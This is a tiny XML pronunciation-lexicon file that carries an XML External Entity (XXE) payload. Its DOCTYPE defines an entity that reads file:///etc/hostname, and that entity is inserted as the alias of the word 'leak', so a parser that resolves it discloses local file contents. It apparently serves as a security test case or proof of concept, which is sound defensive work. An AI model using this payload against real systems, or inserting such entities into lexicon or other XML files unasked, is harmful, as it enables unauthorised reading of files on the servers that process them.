<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE lexicon [ <!ENTITY secret SYSTEM "file:///etc/hostname"> ]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon">
  <lexeme><grapheme>leak</grapheme><alias>&secret;</alias></lexeme>
</lexicon>
